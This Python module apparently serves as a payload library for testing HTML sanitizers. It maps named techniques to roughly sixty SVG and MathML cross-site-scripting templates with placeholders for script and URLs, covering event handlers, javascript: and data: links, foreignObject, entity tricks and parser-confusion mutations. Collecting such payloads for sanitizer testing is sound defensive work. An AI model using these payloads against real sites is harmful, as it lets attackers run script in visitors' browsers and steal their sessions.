"""SVG and MathML."""
# ruff: noqa: E501  (what is hostile stays on one line)

from collections.abc import Mapping
from typing import Final

_SVG: Final = {
    "onload": "<svg onload=%JS%>",
    "onload in capitals": "<SVG ONLOAD=%JS%></SVG>",
    "script": "<svg><script>%JS%</script></svg>",
    "script by entities": "<svg><script>c&#111;nsole.log(%ID%);%JS%</script></svg>",
    "script by href": '<svg><script href="data:text/javascript,%JS%"></script></svg>',
    "script by xlink": '<svg><script xlink:href="data:text/javascript,%JS%"></script></svg>',
    "script in cdata": "<svg><script><![CDATA[%JS%]]></script></svg>",
    "script closing itself": "<svg><script>%JS%<p>",
    "animated handler": "<svg><animate onbegin=%JS% attributeName=x dur=1s></svg>",
    "animated link": '<svg><a><animate attributeName=href values="javascript:%JS%"/><text y=9>x</text></a></svg>',
    "set link": '<svg><a><set attributeName="xlink:href" to="javascript:%JS%"/><text y=9>x</text></a></svg>',
    "set handler": "<svg><set attributeName=onmouseover to=%JS%></svg>",
    "animated transform": "<svg><animateTransform onbegin=%JS%></svg>",
    "link": '<svg><a xlink:href="javascript:%JS%"><circle r=40 /></a></svg>',
    "link without namespace": '<svg><a href="javascript:%JS%"><text y=20>x</text></a></svg>',
    "foreign object": "<svg><foreignObject><img src=x onerror=%JS%></foreignObject></svg>",
    "foreign object with a frame": '<svg><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:%JS%"/></foreignObject></svg>',
    "foreign object with a body": '<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload=%JS% /></foreignObject></svg>',
    "use from data": "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:%JS%'>x</a></svg>#x\"></svg>",
    "use from elsewhere": '<svg><use href="%URL%#x"/></svg>',
    "image from elsewhere": '<svg><image href="%URL%" onerror=%JS% /></svg>',
    "image by xlink": '<svg><image xlink:href="%URL%" onerror="%JS%"/></svg>',
    "feImage": '<svg><filter id=f%ID%><feImage href="%URL%"/></filter><rect filter=url(#f%ID%) width=9 height=9 /></svg>',
    "style with url": "<svg><style>@import url(%URL%); *{background:url(%URL%)}</style><rect width=9 height=9 /></svg>",
    "style with handler": "<svg><style><img src=x onerror=%JS%></style></svg>",
    "fill url": '<svg><rect width=9 height=9 fill="url(%URL%#x)" mask="url(%URL%#y)"/></svg>',
    "title breaking out": "<svg><title><img src=x onerror=%JS%></title></svg>",
    "desc breaking out": "<svg><desc><img src=x onerror=%JS%></desc></svg>",
    "handler on a shape": "<svg><circle r=9 onclick=%JS% onmouseover=%JS% tabindex=1 onfocus=%JS% /></svg>",
    "handler with a slash": "<svg/onload=%JS%//",
    "handler in entities": "<svg onload=&#99;&#111;nsole.log(%ID%);%JS%>",
    "doctype with entity": '<!DOCTYPE svg [<!ENTITY x "<script>%JS%</script>">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
    "stylesheet instruction": '<?xml-stylesheet href="%URL%"?><svg xmlns="http://www.w3.org/2000/svg"/>',
    "xml namespace prefix": '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>%JS%</s:script></s:svg>',
    "nested": "<svg><svg onload=%JS%></svg></svg>",
    "in an attribute": '<p title=\'<svg></svg>\' onclick=%JS%><p title="<svg>"><img src=x onerror=%JS%>"</svg>',
    "that closes too early": "<svg></svg></svg><svg><img src=x onerror=%JS%></svg>",
    "in a comment": "<!-- <svg> --><img src=x onerror=%JS%><!-- </svg> -->",
    "title with quotes": '<svg><title>" onerror=%JS% x="</title></svg>',
    "handler and event": "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load'>%JS%</handler></svg>",
    "discard": "<svg><discard onbegin=%JS% begin=0s /></svg>",
    "object of data": "<object data=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='%JS%'/>\"></object>",
    "picture of data": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='%JS%'><image href='%URL%'/></svg>\">",
    "picture of data with frame": (
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><foreignObject width='9' height='9'>"
        "<iframe xmlns='http://www.w3.org/1999/xhtml' src='%URL%'/></foreignObject></svg>\">"
    ),
}

_MATH: Final = {
    "link": '<math><mi href="javascript:%JS%">x</mi></math>',
    "xlink": '<math><mi xlink:href="javascript:%JS%">x</mi></math>',
    "action": '<math><maction actiontype="statusline#http://x" xlink:href="javascript:%JS%">x</maction></math>',
    "handler": "<math onclick=%JS%><mi onclick=%JS% onmouseover=%JS%>x</mi></math>",
    "text with an image": "<math><mtext><img src=x onerror=%JS%></mtext></math>",
    "text with a table": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=%JS%&gt;'>",
    "annotation as html": '<math><annotation-xml encoding="text/html"><img src=x onerror=%JS%></annotation-xml></math>',
    "annotation as xhtml": '<math><annotation-xml encoding="application/xhtml+xml"><script>%JS%</script></annotation-xml></math>',
    "annotation with svg": "<math><annotation-xml><svg><foreignObject><img src=x onerror=%JS%></foreignObject></svg></annotation-xml></math>",
    "malignmark": "<math><mi><mglyph><svg><mtext><textarea><path id='</textarea><img src=x onerror=%JS%>'>",
    "semantics": "<math><semantics><annotation><img src=x onerror=%JS%></annotation></semantics></math>",
    "style": "<math><style><img src=x onerror=%JS%></style></math>",
    "background": '<math><mi mathbackground="url(%URL%)" style="background:url(%URL%)">x</mi></math>',
    "padded away": '<math><mpadded voffset="600px" lspace="-600px"><mtext>COVER</mtext></mpadded></math>',
}

FAMILIES: Final[Mapping[str, Mapping[str, str]]] = {"svg": _SVG, "math": _MATH}
